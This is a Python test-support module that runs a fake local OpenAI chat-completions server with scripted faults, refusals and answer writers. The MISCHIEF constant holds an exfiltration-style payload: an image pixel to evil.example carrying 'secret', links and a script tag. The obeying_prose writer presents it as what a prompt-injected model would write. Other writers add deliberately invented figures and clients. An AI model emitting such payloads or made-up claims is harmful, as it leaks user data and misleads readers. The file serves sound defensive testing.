"""A local server that speaks OpenAI's chat completions API, well or badly, so that the real SDK can be tested on it.

It also embeds, well, for those who configure both with one key; `requests` are those for completions.
"""

import hashlib
import json
import re
import threading
import time
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.support.builders.search_corpora import WordEmbedder
from tests.support.servers.openai_server import embedding_list, encoded

MODEL = "fake-model"
FAULTS = ("429", "500", "hang", "drip", "garbage", "not-json", "cut", "drop", "refusal", "empty", "filtered", "length")

MISCHIEF = """\
![pixel](https://evil.example/p.png?q=secret) Click [here](https://evil.example) or https://evil.example/x,
<img src="https://evil.example/y"> <script>alert()</script> www.evil.example <https://evil.example/z> [9]

[1]: https://evil.example/definition"""

INVENTED_FIGURES = (
    "costs fell by 97.3%",
    "it saved $987 million",
    "it saved nine hundred eighty-seven million dollars",
    "throughput grew 61x",
    "speed grew **sixty-one** fold",
    "it was 93 times as fast",
    "it took 4,321 months",
    "he led 7,654 engineers",
    "the margin rose 987 bps",
    "revenue reached €6.54bn",
    "seventy-seven percent of users stayed",
    "it handled \uff19\uff18\uff17\uff16\uff15 requests",
    "it ran in 8,787 countries",
)

Messages = list[dict[str, str]]
Writer = Callable[[Messages], str]


def grounded_prose(messages: Messages) -> str:
    """The first story's own title and results, with a mark."""
    user = messages[-1]["content"]
    title = _field(user, "Title")
    result = _field(user, "Result") or _field(user, "Performance")
    return f"{title} is the closest match [1]. {result}".strip()


def inventing_prose(every: int = 3, claim: str = "He also saved $987 million for Globex Unlimited.") -> Writer:
    """Grounded prose; every n-th answer, retries included, contains an ungrounded claim."""
    count = iter(range(1_000_000))

    def write(messages: Messages) -> str:
        prose = grounded_prose(messages)
        return f"{prose} {claim}" if next(count) % every == 0 else prose

    return write


@dataclass
class Inventor:
    """Invents a figure or a client in a third of its answers, retries included; which one depends on what it is asked.

    `made_up` holds what it invented, so that a test can look for it without knowing how figures are read.
    """

    clients: tuple[str, ...]
    made_up: set[str] = field(default_factory=set)
    answers: int = 0

    def __call__(self, messages: Messages) -> str:
        prose, user = grounded_prose(messages), messages[-1]["content"]
        drawn = int.from_bytes(hashlib.sha256(user.encode()).digest()[:6], "big")
        self.answers += 1
        if drawn % 3:
            return prose
        strangers = [name for name in self.clients if name not in user]
        claims = (*INVENTED_FIGURES, *(f"it was all for {name}" for name in strangers))
        claim = claims[drawn // 3 % len(claims)] if drawn % 2 else INVENTED_FIGURES[drawn // 6 % len(INVENTED_FIGURES)]
        self.made_up.add(claim)
        return f"{prose} And {claim}. [1]"


def obeying_prose(messages: Messages) -> str:
    """What a model might write that does what an instruction hidden in its input says."""
    return f"{grounded_prose(messages)}\n\n{MISCHIEF}"


@dataclass(frozen=True)
class HttpReply:
    """A reply as it goes over the wire; cut off where `length` says more than the body has."""

    body: bytes
    status: int = 200
    kind: str = "application/json"
    headers: dict[str, str] = field(default_factory=dict)
    length: int | None = None


@dataclass
class ModelServer:
    """Answers with `writer`; the faults in `script` come first, one a request, and `always` for ever.

    Attributes
    ----------
    respond
        Gives the whole reply to a request, in place of the writer and the faults.
    hang_seconds
        How long a hanging answer takes, and a dripping one altogether.
    retry_after
        The header that goes with a 429.
    """

    writer: Writer = grounded_prose
    respond: Callable[[dict[str, Any]], HttpReply] | None = None
    script: deque[str] = field(default_factory=deque)
    always: str = ""
    hang_seconds: float = 5.0
    retry_after: str = "0.01"
    url: str = ""
    requests: list[dict[str, Any]] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)
    closing: threading.Event = field(default_factory=threading.Event)

    def next_fault(self) -> str:
        return self.script.popleft() if self.script else self.always


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    model: ModelServer

    def do_POST(self) -> None:
        request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if self.path == "/v1/embeddings":
            self._json(200, embeddings_of(request["input"]))
            return
        self.model.requests.append(request)
        self.model.keys.append(self.headers.get("Authorization", "").removeprefix("Bearer "))
        if self.path != "/v1/chat/completions":
            self._json(404, {"error": {"message": "no such path"}})
            return
        if self.model.respond:
            reply = self.model.respond(request)
            self._send(reply.status, reply.kind, reply.body, reply.headers, reply.length)
            self.close_connection = reply.length is not None
            return
        fault = self.model.next_fault()
        if not self._failed(fault):
            prose = self.model.writer(request["messages"])
            (self._stream if request.get("stream") else self._whole)(request, prose, fault)

    def _failed(self, fault: str) -> bool:
        """Answer a fault that does not depend on how the answer was to be sent."""
        match fault:
            case "429" | "500":
                error = {"error": {"message": "not now", "type": "server_error", "code": None, "param": None}}
                self._json(int(fault), error, {"Retry-After": self.model.retry_after} if fault == "429" else {})
            case "hang":
                self.model.closing.wait(self.model.hang_seconds)
                self.close_connection = True
            case "garbage":
                self._send(200, "application/json", b'{"choices": [{"mess')
            case "not-json":
                self._send(200, "text/html", b"<html>It works!</html>")
            case "drop":
                self.connection.close()
                self.close_connection = True
            case _:
                return False
        return True

    def _whole(self, request: dict[str, Any], prose: str, fault: str) -> None:
        message = {"role": "assistant", "content": prose, "refusal": None}
        finish = {"filtered": "content_filter", "length": "length"}.get(fault, "stop")
        if fault == "refusal":
            message |= {"content": None, "refusal": "I cannot help with that."}
        if fault == "empty":
            message["content"] = ""
        choice = {"index": 0, "message": message, "finish_reason": finish, "logprobs": None}
        body = json.dumps({**_head("chat.completion"), "choices": [choice], "usage": usage(request, prose)}).encode()
        if fault == "cut":
            self._send(200, "application/json", body[: len(body) // 2], length=len(body))
            self.close_connection = True
        elif fault == "drip":
            self._drip(body)
        else:
            self._send(200, "application/json", body)

    def _stream(self, request: dict[str, Any], prose: str, fault: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        chunks = [] if fault in ("empty", "refusal") else re.findall(r"\S+\s*", prose)
        for number, text in enumerate(chunks):
            if fault == "cut" and number == len(chunks) // 2:
                return
            if fault == "drip":
                self.model.closing.wait(self.model.hang_seconds / len(chunks))
            self._event({"content": text}, None)
        if fault == "refusal":
            self._event({"refusal": "I cannot help with that."}, None)
        self._event({}, {"filtered": "content_filter", "length": "length"}.get(fault, "stop"))
        if (request.get("stream_options") or {}).get("include_usage"):
            tail = {**_head("chat.completion.chunk"), "choices": [], "usage": usage(request, prose)}
            self.wfile.write(f"data: {json.dumps(tail)}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")

    def _event(self, delta: dict[str, Any], finish: str | None) -> None:
        choice = {"index": 0, "delta": delta, "finish_reason": finish, "logprobs": None}
        self.wfile.write(f"data: {json.dumps({**_head('chat.completion.chunk'), 'choices': [choice]})}\n\n".encode())
        self.wfile.flush()

    def _drip(self, body: bytes) -> None:
        self._send(200, "application/json", b"", length=len(body))
        for byte in body:
            if self.model.closing.wait(self.model.hang_seconds / len(body)):
                return
            self.wfile.write(bytes([byte]))
            self.wfile.flush()

    def _json(self, status: int, content: Any, headers: dict[str, str] | None = None) -> None:
        self._send(status, "application/json", json.dumps(content).encode(), headers)

    def _send(
        self, status: int, kind: str, body: bytes, headers: dict[str, str] | None = None, length: int | None = None
    ) -> None:
        self.send_response(status)
        for name, value in {"Content-Type": kind, **(headers or {})}.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body) if length is None else length))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # a caller that gave up


@contextmanager
def running_model(**options: Any) -> Iterator[ModelServer]:
    """Serve a model on a free port; its `url` is what OPENAI_BASE_URL takes."""
    model = ModelServer(**options)
    handler = type("Handler", (_Handler,), {"model": model, "disable_nagle_algorithm": True})
    server = _Server(("127.0.0.1", 0), handler)
    model.url = f"http://127.0.0.1:{server.server_address[1]}/v1"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield model
    finally:
        model.closing.set()
        server.shutdown()
        server.server_close()
        thread.join()


def embeddings_of(texts: list[str]) -> dict[str, Any]:
    vectors = enumerate(WordEmbedder().embed(texts))
    return embedding_list(
        [{"object": "embedding", "index": index, "embedding": encoded(vector)} for index, vector in vectors]
    )


def usage(request: dict[str, Any], prose: str) -> dict[str, int]:
    """Tokens as a server might count them: one for four characters."""
    prompt = sum(len(message["content"]) for message in request["messages"]) // 4
    written = len(prose) // 4
    return {"prompt_tokens": prompt, "completion_tokens": written, "total_tokens": prompt + written}


def _head(kind: str) -> dict[str, Any]:
    return {"id": "chatcmpl-fake", "object": kind, "created": int(time.time()), "model": MODEL}


def _field(prompt: str, name: str) -> str:
    found = re.search(rf"^{name}: (.*)$", prompt, re.MULTILINE)
    return found[1] if found else ""
